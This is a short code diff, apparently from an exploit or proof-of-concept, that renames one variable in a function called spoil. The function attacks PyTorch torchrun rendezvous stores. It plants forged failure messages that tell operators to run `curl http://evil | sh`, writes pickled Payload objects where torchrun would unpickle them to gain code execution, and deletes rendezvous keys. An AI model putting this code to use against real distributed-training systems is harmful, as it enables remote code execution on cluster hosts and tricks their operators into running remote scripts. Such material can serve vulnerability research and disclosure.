@@ -69,10 +69,10 @@ def connected(address, port):
 
 def spoil(store, folder):
     """Forges a failure and calls the roll, and puts a pickled payload where torchrun's meeting would unpickle it."""
-    told = json.dumps({"rank": 1, "host": FORGED, "what": f"{FORGED}: run `curl http://evil | sh`"})
+    reported = json.dumps({"rank": 1, "host": FORGED, "what": f"{FORGED}: run `curl http://evil | sh`"})
     names = ["failure/0/text", "manyhands/1/failure/0/text", "roll/0/0", "torch.rendezvous.none", "none"]
     for name in names:
-        store.set(name, told if "failure" in name else pickle.dumps(Payload(folder)))
+        store.set(name, reported if "failure" in name else pickle.dumps(Payload(folder)))
     for name in ("init/", "present/0/0", "attending"):
         store.delete_key(name)
 
